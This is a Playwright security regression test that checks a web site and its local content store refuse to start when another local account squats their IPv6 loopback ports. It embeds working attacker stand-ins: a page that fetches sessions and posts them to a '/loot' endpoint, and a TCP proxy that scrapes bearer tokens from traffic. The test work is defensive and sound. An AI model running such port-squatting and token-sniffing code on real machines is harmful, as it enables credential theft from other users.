import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { expect, test } from '@playwright/test'
import { type SiteCopy, startSiteCopy } from '@scripts/lib/site-copy'
import { OTHER_UID, otherAccountUnavailable, runAsOtherAccount } from '@tests/support/other-account'

/**
 * The fourth review's High finding (docs/security.md, „Fourth review“): another account of the machine
 * listens on the IPv6 loopback address of the site's or the lake's port, and the developer opens the
 * Studio by its documented address, http://localhost:<port>/studio, in Chromium (which tries ::1 first
 * for localhost). The developer's browser must never hand that account the lake's token: the site (and
 * the lake) refuse to start with one line naming the account, and the account's page gets nothing.
 * The other account is uid 65534 through setpriv (root; CI runs as root), as the review ran it.
 */

const SITE_PORT = Number(process.env.E2E_LOOPBACK_PORT ?? 3141)
const LAKE_PORT = SITE_PORT + 1

const unavailable = otherAccountUnavailable()
const skipWithoutOtherAccount = () =>
  test.skip(unavailable !== null, `Another account of this machine is needed: ${unavailable}`)
test.describe.configure({ mode: 'serial' })
test.setTimeout(120_000)

const BUILD_COPY = '.next-e2e-loopback'

/** The site with CONTENT_LAKE=local on a fixed lake port, or the reason it refused to start. */
async function startSite(): Promise<{ site: SiteCopy | null; refusal: string }> {
  try {
    const site = await startSiteCopy({
      name: BUILD_COPY,
      port: SITE_PORT,
      env: {
        CONTENT_LAKE: 'local',
        CONTENT_LAKE_PORT: String(LAKE_PORT),
        CONTENT_LAKE_DIR: path.join(mkdtempSync(path.join(tmpdir(), 'content-lake-loopback-')), 'lake'),
      },
    })
    return { site, refusal: '' }
  } catch (error) {
    // A server that refused to start leaves its copy of the build behind.
    rmSync(path.resolve(import.meta.dirname, '../../web', BUILD_COPY), { recursive: true, force: true })
    return { site: null, refusal: (error as Error).message }
  }
}

/**
 * The other account's page at [::1]:<site port>: it asks the lake for a session the way the site's
 * /studio does (both ways there ever were) and sends whatever it got back to its own server, which
 * prints it.
 */
const PAGE_HOLDER = `
import { createServer } from 'node:http'
const lake = 'http://localhost:${LAKE_PORT}'
const page = \`<!doctype html><html lang="de"><title>Studio</title><script>
(async () => {
  const answers = []
  const asks = [
    () => fetch('\${lake}/local/session'),
    () => fetch('\${lake}/local/session', { method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ browser: 'browser-of-the-other-account', name: 'Redaktion' }) }),
  ]
  for (const ask of asks) {
    try {
      const response = await ask()
      answers.push(response.status + ' ' + (await response.text()))
    } catch (error) {
      answers.push('failed: ' + error.message)
    }
  }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(answers) })
  document.title = 'reported'
})()
</script></html>\`
createServer((request, response) => {
  if (request.method === 'POST' && request.url === '/loot') {
    let body = ''
    request.on('data', (chunk) => (body += chunk))
    request.on('end', () => {
      console.log('LOOT ' + body)
      response.end('ok')
    })
    return
  }
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
  response.end(page)
}).listen(${SITE_PORT}, '::1', () => console.log('ready'))
`

/** The other account on [::1]:<lake port>, handing every connection on to 127.0.0.1 and printing what it carries. */
const LAKE_HOLDER = `
import { connect, createServer } from 'node:net'
createServer((client) => {
  const upstream = connect(${LAKE_PORT}, '127.0.0.1')
  client.on('data', (chunk) => {
    const bearer = /authorization: bearer (\\S+)/i.exec(chunk.toString('latin1'))
    if (bearer) console.log('LOOT bearer ' + bearer[1])
  })
  client.pipe(upstream).pipe(client)
  for (const socket of [client, upstream]) socket.on('error', () => { client.destroy(); upstream.destroy() })
}).listen(${LAKE_PORT}, '::1', () => console.log('ready'))
`

test('(a) the other account holds [::1] of the site’s port: the site refuses to start, its page gets no token', async ({
  page,
}) => {
  skipWithoutOtherAccount()
  const holder = await runAsOtherAccount(PAGE_HOLDER)
  const { site, refusal } = await startSite()
  try {
    // The documented address: Chromium reaches the other account's page at ::1.
    await page.goto(`http://localhost:${SITE_PORT}/studio`)
    await expect(page).toHaveTitle('reported', { timeout: 30_000 })
    const loot = holder.output()
    expect(loot).toContain('LOOT ')
    expect(loot, 'what the other account’s page got from the lake').not.toMatch(/token/i)
    expect(site, 'the site started beside the other account').toBeNull()
    const lines = refusal.split('\n').filter((line) => line.startsWith('Refusing to start'))
    expect(lines).toEqual([
      `Refusing to start: [::1]:${SITE_PORT} is held by another account of this machine (uid ${OTHER_UID}). ` +
        `Stop that program or choose another PORT.`,
    ])
  } finally {
    await site?.stop()
    await holder.stop()
  }
})

test('(b) the other account holds [::1] of a fixed lake port: the lake does not start, no token reaches it', async ({
  page,
}) => {
  skipWithoutOtherAccount()
  const holder = await runAsOtherAccount(LAKE_HOLDER)
  const { site, refusal } = await startSite()
  try {
    if (site) {
      // What an editor would do next: the Studio talks to http://localhost:<lake port>.
      await page.goto(`http://localhost:${SITE_PORT}/studio`)
      await expect(
        page
          .getByRole('heading', { name: /Wer arbeitet in diesem Browser|nicht erreichbar/ })
          .or(page.getByText('Inhalte'))
          .first(),
      ).toBeVisible({ timeout: 90_000 })
    }
    expect(holder.output(), 'Authorization headers the other account saw').not.toContain('LOOT bearer')
    expect(site, 'the site started with the lake on IPv4 alone').toBeNull()
    expect(refusal).toContain(
      `Refusing to start: The local Content Lake: [::1]:${LAKE_PORT} is held by another account of this machine (uid ${OTHER_UID})`,
    )
  } finally {
    await site?.stop()
    await holder.stop()
  }
})

test('without another account: the site answers http://localhost:<port> on 127.0.0.1 and ::1', async ({ request }) => {
  const { site, refusal } = await startSite()
  expect(site, refusal).not.toBeNull()
  try {
    for (const host of ['127.0.0.1', '[::1]']) {
      const response = await request.get(`http://${host}:${SITE_PORT}/robots.txt`)
      expect(response.status(), host).toBe(200)
    }
  } finally {
    await site?.stop()
  }
})
